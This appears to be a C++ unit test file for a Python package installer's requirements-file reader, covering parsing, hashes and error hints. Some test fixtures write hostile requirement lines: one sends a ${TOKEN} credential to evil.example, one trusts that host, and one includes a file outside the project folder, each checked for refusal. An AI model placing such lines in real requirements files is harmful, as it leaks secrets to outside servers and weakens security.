// What is typed and what files list, as a goal.
#include "envs/install/read_goal.h"

#include "fetch/os/file.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <map>

namespace moat {
namespace {

using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::IsEmpty;
using ::testing::Pair;

struct Listener final : Reporter {
  void warn(std::string_view message) override { warnings.emplace_back(message); }
  std::vector<std::string> warnings;
};

struct ReadGoalTest : ::testing::Test {
  void write(const std::string& name, const std::string& text) {
    make_directories((folder.path() / name).parent_path());
    write_file_atomically(folder.path() / name, text);
  }
  FileTerms terms() {
    return {.working_directory = folder.path() / "project",
            .home = folder.path() / "home",
            .variable = [this](const std::string& name) -> std::optional<std::string> {
              const auto found = variables.find(name);
              return found == variables.end() ? std::nullopt : std::optional(found->second);
            },
            .client = []() -> HttpClient& { throw Error(ErrorKind::Offline, "no client"); },
            .expand_variables = expand,
            .own_indexes = {Url::parse("https://index.example/simple").value()}};
  }
  Goal read(const GoalTexts& texts) { return read_goal(texts, terms(), reporter); }
  // "message | hint"
  std::string refusal(const GoalTexts& texts) {
    try {
      read(texts);
    } catch (const Error& error) {
      return error.what() + (error.hints().empty() ? std::string() : " | " + error.hints().front());
    }
    return "";
  }
  static std::vector<std::string> lines(const std::vector<RootRequirement>& of) {
    std::vector<std::string> out;
    for (const RootRequirement& root : of)
      out.push_back((root.origin.where.empty() ? "" : root.origin.where + " ") +
                    root.requirement.to_string());
    return out;
  }

  TempDir folder{fs::temp_directory_path(), "goal"};
  std::map<std::string, std::string> variables;
  std::vector<std::string> expand;
  Listener reporter;
};

TEST_F(ReadGoalTest, LinesKnowWhereTheyStandAndWhichFileWasNamed) {
  write("project/all.txt", "-r base.txt\nidna\n");
  write("project/base.txt", "six<2\n");
  const Goal goal = read({.packages = {"flask>=2"}, .requirement_files = {"all.txt"}});
  EXPECT_THAT(lines(goal.requirements), ElementsAre("flask>=2", "base.txt:1 six<2", "all.txt:2 idna"));
  const std::string named = (folder.path() / "project/all.txt").native();
  EXPECT_THAT(goal.files, ElementsAre(Pair("all.txt:2", named), Pair("base.txt:1", named)));
  EXPECT_FALSE(goal.require_hashes);
}

TEST_F(ReadGoalTest, ALineWithoutANameKeepsItsPlace) {
  make_directories(folder.path() / "project/lib");
  const Goal goal = read({.packages = {"idna", "./lib", "six"}, .editables = {"lib"}});
  EXPECT_THAT(lines(goal.requirements), ElementsAre("idna", "six"));
  ASSERT_EQ(goal.unnamed.size(), 2U);
  EXPECT_EQ(goal.unnamed[0].place, 1U);
  EXPECT_FALSE(goal.unnamed[0].editable);
  EXPECT_EQ(goal.unnamed[1].place, 2U);
  EXPECT_TRUE(goal.unnamed[1].editable);
}

TEST_F(ReadGoalTest, OneHashMakesAllOfThemRequired) {
  write("project/all.txt", "six==1.0 --hash=sha256:" + std::string(64, 'a') + "\n");
  EXPECT_TRUE(read({.requirement_files = {"all.txt"}}).require_hashes);
  write("project/all.txt", "--no-require-hashes\nsix==1.0 --hash=sha256:" + std::string(64, 'a') + "\n");
  EXPECT_FALSE(read({.requirement_files = {"all.txt"}}).require_hashes);
}

TEST_F(ReadGoalTest, TellsWhatWasProbablyMeant) {
  write("project/all.txt", "");
  EXPECT_EQ(refusal({.packages = {"flask", "3.0"}}),
            "`flask 3.0` is not a requirement | did you mean `flask==3.0`?");
  EXPECT_THAT(refusal({.packages = {"flask@3"}}), HasSubstr("did you mean `flask==3`?"));
  EXPECT_EQ(refusal({.packages = {"all.txt"}}),
            "`all.txt` is a file, not a requirement | `-r all.txt` installs what a file lists");
  EXPECT_THAT(refusal({.requirement_files = {"pyproject.toml"}}), HasSubstr("is not a requirements file"));
  EXPECT_THAT(refusal({.requirement_files = {"my uv/uv.lock"}}), HasSubstr("moat import 'my uv/uv.lock'"));
}

TEST_F(ReadGoalTest, AConstraintOnlyConstrains) {
  write("project/limits.txt", "six[x]<2\n");
  EXPECT_THAT(refusal({.constraint_files = {"limits.txt"}}), HasSubstr("a constraint cannot have extras"));
  write("project/limits.txt", "https://h.example/six-1.0-py3-none-any.whl\n");
  EXPECT_THAT(refusal({.constraint_files = {"limits.txt"}}),
              HasSubstr("a constraint must begin with a name"));
  write("project/limits.txt", "-c more.txt\nsix<2\n");
  write("project/more.txt", "idna<4\n");
  EXPECT_THAT(lines(read({.constraint_files = {"limits.txt"}}).constraints),
              ElementsAre("more.txt:1 idna<4", "limits.txt:2 six<2"));
  EXPECT_THAT(refusal({.override_files = {"limits.txt"}}),
              HasSubstr("an override file cannot have constraints"));
}

TEST_F(ReadGoalTest, AFileIncludesOnlyWhatLiesBesideIt) {
  write("elsewhere/secret.txt", "six\n");
  write("project/all.txt", "-r ../elsewhere/secret.txt\n");
  EXPECT_THAT(refusal({.requirement_files = {"all.txt"}}), HasSubstr("is outside the folder of"));
  EXPECT_THAT(lines(read({.requirement_files = {"../elsewhere/secret.txt"}}).requirements),
              ElementsAre(HasSubstr("six")));
}

TEST_F(ReadGoalTest, AVariableGoesOnlyToOnesOwnIndexes) {
  variables = {{"TOKEN", "s3cret"}};
  write("project/all.txt", "--extra-index-url https://me:${TOKEN}@index.example/simple\n");
  EXPECT_THAT(read({.requirement_files = {"all.txt"}}).file_options.extra_index_urls,
              ElementsAre("https://me:s3cret@index.example/simple"));
  write("project/all.txt", "--extra-index-url https://me:${TOKEN}@evil.example/simple\n");
  EXPECT_THAT(refusal({.requirement_files = {"all.txt"}}),
              HasSubstr("${TOKEN} would be sent to a server that only this file names"));
  expand = {"TOKEN"};
  EXPECT_EQ(refusal({.requirement_files = {"all.txt"}}), "");
}

TEST_F(ReadGoalTest, AFileCannotTrustAHost) {
  write("project/all.txt", "--trusted-host evil.example\n");
  EXPECT_THAT(read({.requirement_files = {"all.txt"}}).requirements, IsEmpty());
  EXPECT_THAT(reporter.warnings, ElementsAre(HasSubstr("`--trusted-host` ignored")));
}

}  // namespace
}  // namespace moat
